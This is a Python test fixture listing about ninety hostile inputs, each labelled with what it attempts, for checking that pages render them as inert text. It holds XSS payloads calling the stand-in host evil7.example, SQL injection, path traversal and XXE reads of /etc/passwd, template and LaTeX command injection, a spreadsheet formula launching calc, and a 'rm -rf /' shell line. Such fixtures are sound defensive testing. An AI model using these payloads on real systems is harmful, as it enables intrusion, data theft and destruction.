"""Inputs that were made to do harm, each with what it tries. Pages must show them as the words that they are."""

from typing import NamedTuple

MARK = "evil7"  # in every name that an input could bring into a page: <evil7>, onevil7=, /evil7


class Attack(NamedTuple):
    """An input, and what whoever sends it hopes for."""

    name: str
    words: str
    tries: str


ATTACKS: tuple[Attack, ...] = (
    # Markup
    Attack("script", "<script>evil7()</script>", "runs a script"),
    Attack("script-case", "<ScRiPt SrC=//evil7.example/x.js></sCrIpT>", "runs a script from elsewhere"),
    Attack("script-split", "<scr<script>ipt>evil7()</scr</script>ipt>", "survives a filter that takes tags out once"),
    Attack("script-entity", "&lt;script&gt;evil7()&lt;/script&gt;", "is unescaped twice"),
    Attack("script-double", "&amp;lt;evil7&amp;gt;", "is unescaped three times"),
    Attack("svg", "<svg onload=evil7()>", "runs a script when a picture loads"),
    Attack("svg-script", "<svg><script href='data:,evil7()'/></svg>", "runs a script in a picture"),
    Attack("svg-use", "<svg><use href='data:image/svg+xml,<evil7/>#x'/></svg>", "draws a picture from elsewhere"),
    Attack("img", "<img src=x onerror=evil7()>", "runs a script when a picture fails"),
    Attack("iframe", "<iframe srcdoc='<evil7>'></iframe>", "frames a page of its own"),
    Attack("object", "<object data='//evil7.example'></object><embed src='//evil7.example'>", "loads a plug-in"),
    Attack("form", "<form action='https://evil7.example'><input name=evil7><button>Log in", "asks for a password"),
    Attack("base", "<base href='https://evil7.example/'>", "turns all relative links"),
    Attack("meta", "<meta http-equiv=refresh content='0;url=https://evil7.example'>", "leads away"),
    Attack("link", "<link rel=stylesheet href='https://evil7.example/x.css'>", "loads styles from elsewhere"),
    Attack("style", "<style>*{display:none}evil7{}</style>", "hides the page"),
    Attack("attribute", '" onmouseover="evil7()" data-evil7="', "leaves a quoted attribute"),
    Attack("attribute-single", "' onfocus='evil7()' autofocus data-evil7='", "leaves an attribute in single quotes"),
    Attack("attribute-bare", "x onclick=evil7() data-evil7", "leaves an attribute without quotes"),
    Attack("backtick", "`onclick=evil7()`", "leaves an attribute in an old browser"),
    Attack("comment", "<!-- evil7 -->", "hides what follows"),
    Attack("comment-open", "<!--", "hides the rest of the page"),
    Attack("comment-close", "--><evil7>", "ends a comment"),
    Attack("closing", "</title></textarea></script></style></main></body></html><evil7>", "closes what it stands in"),
    Attack("cdata", "]]><evil7/><![CDATA[", "ends a stretch of XML"),
    Attack("doctype", '<!DOCTYPE x [<!ENTITY evil7 SYSTEM "file:///etc/passwd">]>&evil7;', "reads a file by XML"),
    Attack("noscript", "<noscript><p title='</noscript><img src=x onerror=evil7()>'>", "is parsed in two ways"),
    Attack(
        "mathml", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=evil7()>'>", "same"
    ),
    Attack("template-tag", "<template><evil7></template><slot onslotchange=evil7()>", "hides markup for later"),
    Attack("null-tag", "<scr\0ipt>evil7()</scr\0ipt>", "is a tag once a null byte is gone"),
    Attack("fullwidth", "\uff1cscript\uff1eevil7()\uff1c/script\uff1e", "is a tag once it is normalised"),
    # Links
    Attack("javascript", "javascript:evil7()", "runs a script when clicked"),
    Attack("javascript-space", " \x01java\tscript:evil7()", "is a script once blanks are gone"),
    Attack("javascript-case", "JaVaScRiPt://evil7.example/%0aevil7()", "looks like an address"),
    Attack("data-link", "data:text/html,<script>evil7()</script>", "is a page of its own"),
    Attack("vbscript", "vbscript:evil7()", "runs a script in an old browser"),
    Attack("file-link", "file:///etc/passwd", "opens a file"),
    Attack("relative-host", "//evil7.example/x", "leads elsewhere without a scheme"),
    Attack("backslashes", "\\\\evil7.example\\x", "leads elsewhere in some browsers"),
    Attack("at-host", "https://legation@evil7.example/", "shows another host than it leads to"),
    Attack("homoglyph", "https://\u0435xample.org/evil7", "looks like another host"),
    Attack("idn", "https://xn--80ak6aa92e.com/evil7", "is written as another host"),
    # Characters
    Attack("bidi", "\u202eevil7\u202d fdp.exe", "turns the direction of what follows"),
    Attack("bidi-isolates", "\u2066\u2067evil7", "leaves a direction open"),
    Attack("null", "evil7\0after", "ends a string early"),
    Attack("controls", "\x1b[31mevil7\x07\x08\x7f\x85", "steers a terminal"),
    Attack("zero-width", "e\u200bv\u200ci\u200dl\u2060\ufeff7", "hides a word from a search"),
    Attack("surrogate", "evil7\udc80\ud800", "cannot be encoded"),
    Attack("combining", "e" + "\u0301" * 300 + "vil7", "piles accents over other lines"),
    Attack(
        "emoji", "👩\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e0062\U000e007f evil7", "is cut in the middle of a sign"
    ),
    Attack("rtl", "شرق أوسط evil7 עברית", "mixes directions"),
    Attack("digits", "٣٤٥ ２０２５-０５-０７", "is a number to some and none to others"),
    Attack("separators", "evil7\u2028line\u2029paragraph", "ends a line of a script"),
    Attack("newlines", "evil7\r\n\r\nsecond\nthird", "ends a line"),
    # Addresses and headers
    Attack("path", "../../../../etc/passwd", "leaves the folder"),
    Attack("path-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "leaves the folder once decoded"),
    Attack("path-double", "%252e%252e%252fetc%252fpasswd", "leaves the folder once decoded twice"),
    Attack("path-windows", "..\\..\\windows\\win.ini", "leaves the folder on Windows"),
    Attack("headers", "evil7\r\nSet-Cookie: evil7=1\r\n\r\n<evil7>", "adds a header, or a page"),
    Attack("headers-encoded", "evil7%0d%0aSet-Cookie:%20evil7=1", "adds a header once decoded"),
    # Questions
    Attack("sql", "' OR 1=1; DROP TABLE document; --", "changes a question to the database"),
    Attack("sql-union", '") UNION SELECT sql FROM sqlite_master --', "reads another table"),
    Attack("sql-like", "%_%\\_%", "fits everything"),
    Attack("fts", 'NEAR("evil7" "x", 2) AND title: ^evil7 {a b}: + *', "is a query of the index"),
    Attack("fts-quotes", '"""" OR "" - -" NOT (', "breaks a query of the index"),
    Attack("fts-many", " OR ".join(["evil7"] * 20), "makes a query deep"),
    Attack("redos", "a" * 60 + "!" + "(" * 40, "keeps a regular expression busy"),
    Attack("redos-quotes", '-"' * 90, "same, by quotes"),
    Attack("redos-spaces", " " * 150 + "evil7" + "\t" * 40, "same, by blanks"),
    # Numbers
    Attack("huge", "9" * 190, "overflows"),
    Attack("negative", "-1", "counts backwards"),
    Attack("exponent", "1e400", "is infinite"),
    Attack("nan", "NaN", "is no number and compares with none"),
    Attack("hex", "0x7fffffffffffffff", "is a number to some"),
    Attack("far-day", "9999-12-31", "is the last day there is"),
    Attack("first-day", "0001-01-01", "is the first day there is"),
    Attack("weeks-ago", "99999w", "is before all days"),
    # Templates and other languages
    Attack("jinja", "{{7*7}}{% raw %}{{config}}", "is run by the template"),
    Attack("jinja-class", "{{''.__class__.__mro__[1].__subclasses__()}}", "runs a program by the template"),
    Attack("dollar", "${7*7}#{7*7}<%= 7*7 %>", "is run by another template"),
    Attack("format", "%s%n%x{0.__class__}{evil7!r}", "is run by formatting"),
    Attack("css", "red;}*{background:url(//evil7.example)}", "leaves a style"),
    Attack("formula", '=HYPERLINK("https://evil7.example";"click")', "runs in a spreadsheet"),
    Attack("formula-at", "@SUM(1+1)*cmd|' /C calc'!A0", "runs a program from a spreadsheet"),
    Attack("csv", 'evil7","second\nthird', "leaves a cell"),
    Attack("markdown", "[click](javascript:evil7()) ![x](//evil7.example) `code` # head", "is a link in Markdown"),
    Attack("bibtex", "}, url = {https://evil7.example}, note = {\\input{/etc/passwd}", "leaves a field of BibTeX"),
    Attack("typst", '#read("/etc/passwd") #evil7() ] \\ $ _a_ *b* <evil7> @evil7', "is run by Typst"),
    Attack("latex", "\\immediate\\write18{evil7}", "runs a program by LaTeX"),
    Attack("json", '"},"evil7":{"a":"', "leaves a string of JSON"),
    Attack("prototype", "__proto__", "changes what all objects of a script have"),
    Attack("vega", "datum.evil7 || {signal: 'evil7()'}", "is run by a chart"),
    Attack("shell", "; rm -rf / #$(evil7)`evil7`|evil7", "runs a program"),
    Attack("long", "evil7" * 39, "is long"),
)

HUGE = "evil7" * 400_000  # one word of 2 MB


def twin(words: str) -> str:
    """Words of the same shape that can do no harm: only letters, digits and blanks stay what they are."""
    return "".join(each if each.isalnum() or each.isspace() else "x" for each in words)
